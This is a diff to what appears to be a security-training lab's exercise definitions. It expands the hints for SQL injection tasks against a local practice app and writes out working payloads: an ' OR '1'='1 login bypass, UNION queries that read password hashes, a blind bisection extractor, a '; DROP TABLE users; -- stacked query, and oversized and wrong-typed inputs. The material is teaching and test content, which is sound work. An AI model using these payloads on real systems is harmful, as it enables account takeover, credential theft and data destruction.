@@ -121,7 +121,9 @@ def _listed(problems: list[str]) -> list[str]:
         "password_hash) AND email = '<email>'",
         "AND binds tighter than OR: close the quote, then add OR with a condition that is "
         "always true. The app's own closing quote must still fit: end with '1'='1",
-        "Hand in the body you logged in with: {'email': \"' OR '1'='1\", 'password': 'x'}.",
+        "lab.client.post('/api/auth/login', json=bypass) with bypass = {'email': \"' OR "
+        "'1'='1\", 'password': 'x'} (or labkit.attacks.injection.login(lab.client, **bypass)); "
+        "hand in the body.",
     ),
     answer_help="the login body {'email': ..., 'password': ...} that logs you in as alice",
 )
@@ -164,8 +166,10 @@ def auth_bypass(ctx: CheckContext) -> Verdict:
         "Count the lookup's columns first: ' ORDER BY n -- errors once n is too large.",
         "' UNION SELECT <as many columns> FROM users -- : put password_hash where the "
         "response shows a text field, e.g. the name (6th column).",
-        "injection.union_read(lab.client, 'SELECT id, email, ... FROM users') does the "
-        "request; hand in a dict {email: password_hash}.",
+        "Send it as lab.client.get('/api/users', params={'email': union}); the rows come "
+        "back in .json()['users']. Ready-made: labkit.attacks.injection.column_count("
+        "lab.client) and union_read(lab.client, 'SELECT id, email, ... FROM users'). Hand in "
+        "a dict {email: password_hash}.",
     ),
     answer_help="a dict {email: password_hash} for alice, bob and carol",
 )
@@ -197,11 +201,15 @@ def union_hashes(ctx: CheckContext) -> Verdict:
     title="Extract alice's hash one yes/no question at a time",
     kind="attack",
     hints=(
-        "ask = injection.lookup_oracle(lab.client, 'alice@example.com') answers any SQL "
-        "condition with True (alice comes back) or False (no rows).",
-        "ask(\"length((SELECT password_hash FROM users WHERE email = 'alice@example.com')) "
-        '> 50") — bisect numbers; unicode(substr(expr, i, 1)) gives the i-th character.',
-        "injection.blind_extract(ask, expression, progress=True) does it all.",
+        "One bit per request is enough: 'alice comes back' or 'no rows' answers any SQL "
+        "condition you can AND into her lookup.",
+        'oracle: the email f"alice@example.com\' AND ({condition}) --", True when '
+        ".json()['users'] is not empty. Bisect: while low < high: middle = (low + high) // 2; "
+        "if oracle(f'({expr}) > {middle}'): low = middle + 1 else: high = middle — on "
+        "length((SELECT ...)) and on unicode(substr((SELECT ...), i, 1)) for each i.",
+        "Ready-made: oracle = labkit.attacks.injection.lookup_oracle(lab.client, "
+        "'alice@example.com'); labkit.attacks.injection.blind_extract(oracle, alice_hash_sql, "
+        "progress=True) does the bisection.",
     ),
     answer_help="alice's password hash, as a string",
 )
@@ -230,8 +238,10 @@ def blind_extract(ctx: CheckContext) -> Verdict:
     title="Try a stacked query (a second statement after ';')",
     kind="attack",
     hints=(
-        "A stacked query ends the first statement and starts another: '; DROP TABLE users; --",
-        "Hand in the email you sent to the lookup; the check sends it again.",
+        "A stacked query ends the first statement with ';' and starts another.",
+        "Close the quote, end the statement, add the second one and comment out the rest: "
+        "'; DROP TABLE users; --. Hand in the email you sent; the check sends it again.",
+        "Ready-made: labkit.attacks.injection.STACKED is that email.",
     ),
     answer_help="the lookup email carrying '; <second statement>",
 )
@@ -264,8 +274,11 @@ def stacked_query(ctx: CheckContext) -> Verdict:
     title="Store a multi-megabyte name",
     kind="attack",
     hints=(
-        "injection.create(lab.client, {'email': ..., 'name': 'x' * 5_000_000})",
-        "Hand in the email of the account you created.",
+        "Nothing caps the request body or the name: what does the app do with megabytes?",
+        "lab.client.post('/api/users', json={'email': <a new address>, 'name': 'x' * "
+        "5_000_000}); hand in the email.",
+        "Ready-made: labkit.attacks.injection.create(lab.client, body) and "
+        "injection.fresh_email('huge').",
     ),
     answer_help="the email of an account whose name is over a million characters",
 )
@@ -294,8 +307,12 @@ def oversized(ctx: CheckContext) -> Verdict:
     title="Store ages that are not numbers",
     kind="attack",
     hints=(
-        "injection.wrong_type_bodies() has bodies with age 'abc', [30], {...}, true...",
-        "Create a few of them and hand in the list of their emails.",
+        "JSON has strings, numbers, booleans, lists and objects; the app stores whatever "
+        "arrives as age.",
+        "Sign up a few new emails with age 'abc', [30], {'$gt': 0}, True, 30.5 "
+        "(lab.client.post('/api/users', json=body)); hand in the list of the emails that got "
+        "201.",
+        "Ready-made: labkit.attacks.injection.wrong_type_bodies() holds such bodies.",
     ),
     answer_help="a list of emails of accounts whose stored age is not a number",
 )
